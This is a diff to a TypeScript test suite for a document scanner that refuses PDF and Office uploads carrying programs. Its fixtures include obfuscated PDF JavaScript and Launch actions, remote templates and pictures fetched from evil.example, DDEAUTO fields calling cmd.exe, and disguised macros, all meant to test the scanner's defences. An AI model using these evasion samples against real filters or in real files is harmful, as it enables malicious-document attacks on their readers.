@@ -18,8 +18,10 @@ const mains = {
   pptx: ['ppt/presentation.xml', 'presentationml.presentation.main+xml'],
 } as const;
 
+type Parts = Readonly<Record<string, string | Uint8Array>>;
+
 /** A packed document of an office format, with these parts in the place of its own. */
-function office(ending: keyof typeof mains, parts: Readonly<Record<string, string>> = {}): Buffer {
+function office(ending: keyof typeof mains, parts: Parts = {}): Buffer {
   const [main, type] = mains[ending];
   const own = {
     '[Content_Types].xml': `<Types><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`,
@@ -27,7 +29,11 @@ function office(ending: keyof typeof mains, parts: Readonly<Record<string, strin
     ...parts,
   };
   return Buffer.from(
-    zipSync(Object.fromEntries(Object.entries(own).map(([name, text]) => [name, strToU8(text)]))),
+    zipSync(
+      Object.fromEntries(
+        Object.entries(own).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
+      ),
+    ),
   );
 }
 
@@ -157,5 +163,260 @@ describe('S14: a document that somebody brings', () => {
     ],
   ])('is refused as %s where it is %s', (problem, _, ending, bytes) => {
     expect(documentProblem(ending, bytes)).toBe(problem);
+  });
+
+  const catalogThatRuns =
+    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n';
+  const script = '5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n';
+  const bundled = Buffer.from('5 0 <</S/JavaScript/JS(app.alert(1))>>');
+  const packed = deflateSync(bundled);
+  /** A bundle with one object, by the words of its head and of its stream. */
+  const bundle = (head: string, bytes: Buffer, word = 'stream\n'): string =>
+    `${catalogThatRuns}6 0 obj<<${head}/N 1/First 4/Length ${bytes.length}>>${word}${bytes.toString('latin1')}\nendstream endobj\n`;
+  const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);
+  const flate = '/Type/ObjStm/Filter/FlateDecode';
+
+  it.each<[string, string]>([
+    ['in a bundle whose type is written by numbers', bundle('/Type/Obj#53tm/Filter/FlateDecode', packed)],
+    ['in a bundle that says no type', bundle('/Filter/FlateDecode', packed)],
+    ['in a bundle whose filter is a list of one', bundle('/Type/ObjStm/Filter[/FlateDecode]', packed)],
+    ['in a bundle whose stream begins by half an end of line', bundle(flate, packed, 'stream\r')],
+    ['in a bundle with a long head', bundle(`${flate}/X(${'A'.repeat(2_500)})`, packed)],
+    [
+      'in a bundle that seems to end where it begins',
+      bundle('/Type/ObjStm', Buffer.concat([Buffer.from('endstream stream\n'), bundled])),
+    ],
+    ['in a bundle that is not packed', bundle('/Type/ObjStm', bundled)],
+    [
+      'in a bundle, within what looks like a text',
+      bundle(flate, deflateSync(Buffer.from('5 1 (<</S/JavaScript>>)'))),
+    ],
+    ['in a bundle with a comment before its word', bundle(flate, packed, '%(<<\nstream\n')],
+    ['behind a comment with the word of a stream', `${catalogThatRuns}% stream\n${script}% endstream\n`],
+    [
+      'behind a text with the word of a stream',
+      `${catalogThatRuns}7 0 obj(a stream\n)endobj\n${script}8 0 obj(endstream)endobj\n`,
+    ],
+    ['in a comment, where the table of places may lead', `${catalogThatRuns}%${script}`],
+    ['in a text, where the table of places may lead', `${catalogThatRuns}7 0 obj(${script})endobj\n`],
+    [
+      'in a stream, where the table of places may lead',
+      `${catalogThatRuns}${stream('', Buffer.from(script))}`,
+    ],
+    [
+      'whose action is a name of its own',
+      `${catalogThatRuns}5 0 obj<</S 6 0 R>>endobj 6 0 obj/Java#53cript endobj\n`,
+    ],
+    [
+      'behind a comment in the head of an object',
+      `${catalogThatRuns}5%x\n0%x\nobj%x\n<</S%)\n/JavaScript>>endobj\n`,
+    ],
+    ['behind a bracket that nothing closes', `${catalogThatRuns}5 0 obj<</A ] > /S/JavaScript>>endobj\n`],
+    [
+      'that carries a file beside the list of them',
+      `${catalog}5 0 obj<</Type/Filespec/EF<</F 6 0 R>>>>endobj\n`,
+    ],
+    [
+      'that takes a stream from another file',
+      `${catalog}5 0 obj<</F(x.bin)/Length 0>>stream\n\nendstream endobj\n`,
+    ],
+    ['with a form of another kind', `${catalog}5 0 obj<</AcroForm<</XFA 6 0 R>>>>endobj\n`],
+    ...['SubmitForm', 'GoToR', 'GoToE', 'ImportData', 'Launch', 'Rendition', 'Movie', 'Sound'].map(
+      (action): [string, string] => [
+        `with the action ${action}`,
+        `${catalog}5 0 obj<</S/${action}>>endobj\n`,
+      ],
+    ),
+  ])('is refused where it is a PDF with a program %s', (_, objects) => {
+    expect(documentProblem('pdf', pdf(objects))).toBe('holds-programs');
+  });
+
+  it.each<[string, string, string]>([
+    [
+      'broken-document',
+      'packed twice',
+      bundle('/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]', hex(packed)),
+    ],
+    ['broken-document', 'packed in another way', bundle('/Type/ObjStm/Filter/ASCIIHexDecode', hex(bundled))],
+    ['broken-document', 'whose filter stands elsewhere', bundle('/Type/ObjStm/Filter 9 0 R', packed)],
+    [
+      'broken-document',
+      'with two filters of one name',
+      bundle('/Type/ObjStm/Filter/FlateDecode/Filter[]', packed),
+    ],
+    [
+      'broken-document',
+      'whose bytes are written as differences',
+      bundle(`${flate}/DecodeParms<</Predictor 12>>`, packed),
+    ],
+    ['broken-document', 'that is cut off', bundle(flate, packed.subarray(0, 20))],
+    [
+      'broken-document',
+      'whose length stands elsewhere',
+      bundle('/Type/ObjStm', bundled).replace(/Length \d+/, 'Length 12 0 R'),
+    ],
+    ['broken-document', 'of arrays in arrays', `${catalog}5 0 obj${'['.repeat(1_000)}`],
+    ['unpacks-to-too-much', 'of objects in one text', `${catalog}${'obj[('.repeat(200_000)}`],
+    ['unpacks-to-too-much', 'of objects in one comment', `${catalog}${'obj%'.repeat(200_000)}`],
+    ['old-or-protected', 'that is encrypted', `${catalog}trailer<</Root 1 0 R/Encrypt 8 0 R>>`],
+    [
+      'old-or-protected',
+      'that is encrypted, by a stream of places',
+      `${catalog}5 0 obj<</Type/XRef/#45ncrypt 8 0 R>>stream\nendstream endobj\n`,
+    ],
+  ])('is refused as %s where it is a PDF with a bundle %s', (problem, _, objects) => {
+    expect(documentProblem('pdf', pdf(objects))).toBe(problem);
+  });
+
+  it.each<[string, string]>([
+    [
+      'with a bundle of texts that name what runs',
+      bundle(flate, deflateSync(Buffer.from('5 0 <</URI(https://example.org/JS/Launch)>>'))),
+    ],
+    [
+      'with addresses that name what runs',
+      `${catalog}5 0 obj<</A<</S/URI/URI(https://example.org/EF/JS)>>>>endobj\n`,
+    ],
+    [
+      'with a stream of places as programs write it',
+      `${catalog}5 0 obj<</Type/XRef/DecodeParms<</Columns 4/Predictor 12>>/Filter/FlateDecode/W[1 2 1]/Length 9 0 R>>stream\nendstream endobj\n`,
+    ],
+  ])('is kept where it is a PDF %s', (_, objects) => {
+    expect(documentProblem('pdf', pdf(objects))).toBeNull();
+  });
+
+  const schemas = 'http://schemas.openxmlformats.org';
+  /** The relationships of a part, with one of a type. */
+  const related = (type: string, mode = 'External', target = 'http://evil.example/x.dotm'): string =>
+    `<?xml version="1.0"?><Relationships xmlns="${schemas}/package/2006/relationships"><Relationship Id="r1" Type="${schemas}/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+  const attached = related('attachedTemplate');
+  const text = (inside: string): Parts => ({
+    'word/document.xml': `<w:document xmlns:w="x"><w:body>${inside}</w:body></w:document>`,
+  });
+  const field = (...words: readonly string[]): string =>
+    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words.map((word) => (word.startsWith('<') ? word : `<w:r><w:instrText>${word}</w:instrText></w:r>`)).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+  const typed = (type: string): Parts => ({
+    '[Content_Types].xml': `<Types><Default Extension="bin" ContentType="${type}"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.${mains.docx[1]}"/></Types>`,
+  });
+
+  it.each<[string, Parts]>([
+    [
+      'a template whose type is written by numbers',
+      { 'word/_rels/settings.xml.rels': related('attachedTempl&#97;te') },
+    ],
+    [
+      'a template outside, by numbers',
+      { 'word/_rels/settings.xml.rels': related('attachedTemplate', '&#69;xternal') },
+    ],
+    ['a template in a part of capital letters', { 'word/_rels/settings.xml.RELS': attached }],
+    [
+      'a template behind a sign in a text',
+      { 'word/_rels/settings.xml.rels': attached.replace('Id=', 'Foo="a>b" Id=') },
+    ],
+    [
+      'a template under a prefix',
+      {
+        'word/_rels/settings.xml.rels': attached
+          .replaceAll('<Relationship', '<q:Relationship')
+          .replace('</Relationships', '</q:Relationships')
+          .replace('xmlns=', 'xmlns:q='),
+      },
+    ],
+    [
+      'a template that calls itself one of its own',
+      { 'word/_rels/settings.xml.rels': related('attachedTemplate', 'Internal') },
+    ],
+    ['a picture from elsewhere', { 'word/_rels/document.xml.rels': related('image') }],
+    [
+      'a picture from a folder of the network',
+      { 'word/_rels/document.xml.rels': related('image', 'Internal', '\\\\evil\\x.png') },
+    ],
+    [
+      'a page of another kind',
+      { 'word/_rels/document.xml.rels': related('aFChunk', 'Internal', 'a.xml'), 'word/a.xml': '<a/>' },
+    ],
+    [
+      'a link that is a program',
+      { 'word/_rels/document.xml.rels': related('hyperlink', 'External', 'javascript:a()') },
+    ],
+    ['macros under another name', { 'word/v.bin': 'x' }],
+    [
+      'macros that call themselves a picture',
+      {
+        'word/v.png': 'x',
+        'word/_rels/document.xml.rels': related('x', 'Internal', 'v.png').replace(
+          'officeDocument/2006/relationships/x',
+          'vbaProject',
+        ),
+      },
+    ],
+    ['macros by the list of types', typed('application/vnd.ms-word.document.m&#97;croEnabled.main+xml')],
+    ['a program', { 'word/embeddings/a.exe': 'MZ' }],
+    ['a page', { 'word/a.html': '<html/>' }],
+    ['a drawing with a script', { 'word/media/a.svg': '<svg><script>1</script></svg>' }],
+    [
+      'a field that asks a program',
+      text('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>'),
+    ],
+    ['a field that asks a program, in pieces', text(field('DD', 'EAUTO c:\\cmd.exe'))],
+    ['a field that asks a program, unparsed', text(field('<w:instrText><![CDATA[ dde x]]></w:instrText>'))],
+    ['a field whose word another field says', text(field(field(' QUOTE 68 68 69 '), 'c:\\cmd.exe'))],
+    [
+      'a field that takes in a picture from elsewhere',
+      text(field(' INCLUDEPICTURE "http://evil.example/x.png" ')),
+    ],
+    [
+      'a field of a part with another ending',
+      { ...typed('a/b'), 'word/f.psmdcp': `<w:ftr xmlns:w="x">${field('DDE x')}</w:ftr>` },
+    ],
+    [
+      'a workbook with macros in it',
+      { 'word/embeddings/a.xlsx': office('xlsx', { 'xl/vbaProject.bin': 'x' }) },
+    ],
+  ])('is refused where it is a text with %s', (_, parts) => {
+    expect(documentProblem('docx', office('docx', parts))).toBe('holds-programs');
+  });
+
+  it('is refused where a click on a slide starts a program', () => {
+    const slide = '<p:sld xmlns:p="x"><a:hlinkClick xmlns:a="y" action="ppaction://program"/></p:sld>';
+    expect(documentProblem('pptx', office('pptx', { 'ppt/slides/slide1.xml': slide }))).toBe(
+      'holds-programs',
+    );
+  });
+
+  it('is refused as broken where two parts are one, or a part is in letters that nobody expects', () => {
+    const two = office('docx', { 'word/a.xml': '<a/>', 'word/A.xml': '<a/>' });
+    expect(documentProblem('docx', two)).toBe('broken-document');
+    const odd = office('docx', { 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' });
+    expect(documentProblem('docx', odd)).toBe('broken-document');
+  });
+
+  it.each<[string, keyof typeof mains, Parts]>([
+    [
+      'a text as programs write it',
+      'docx',
+      {
+        ...text(
+          `<w:p><w:fldSimple w:instr=" PAGE "/>${field(' IF ', field(' PAGE '), ' = 1 "a" "b" ')}</w:p>`,
+        ),
+        ...typed('application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings'),
+        ...{ 'word/printerSettings1.bin': 'x', 'word/media/image1.PNG': 'x', 'docProps/thumbnail.jpeg': 'x' },
+        ...{
+          '_rels/.rels': related('officeDocument', 'Internal', 'word/document.xml'),
+          'customXml/item1.xml': '<a/>',
+        },
+      },
+    ],
+    [
+      'slides with a chart and its workbook',
+      'pptx',
+      {
+        'ppt/slides/slide1.xml': '<p:sld xmlns:p="x"/>',
+        'ppt/charts/_rels/chart1.xml.rels': related('package', 'Internal', '../embeddings/a.xlsx'),
+        'ppt/embeddings/a.xlsx': office('xlsx'),
+      },
+    ],
+  ])('is kept where it is %s', (_, ending, parts) => {
+    expect(documentProblem(ending, office(ending, parts))).toBeNull();
   });
 });
